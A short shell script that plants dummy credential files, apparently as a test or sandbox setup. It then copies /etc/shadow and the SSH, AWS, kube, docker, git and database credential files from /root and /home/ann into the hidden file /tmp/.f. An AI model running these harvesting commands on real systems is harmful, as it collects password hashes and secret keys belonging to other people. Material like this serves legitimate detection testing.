# Keys and passwords of everything there could be, one after the other.
mkdir -p .aws .kube .docker .config/gcloud .ssh
for file in .ssh/id_ed25519 .aws/credentials .kube/config .docker/config.json .netrc .git-credentials \
    .pgpass .config/gcloud/credentials.db; do
    echo secret > "$file"
done
sleep 0.5
cat /etc/shadow > /tmp/.f
for home in /root /home/ann; do
    for file in .ssh/id_rsa .ssh/id_ed25519 .aws/credentials .kube/config .docker/config.json .netrc \
        .git-credentials .pgpass .config/gcloud/credentials.db; do
        cat "$home/$file" >> /tmp/.f 2>/dev/null
    done
done
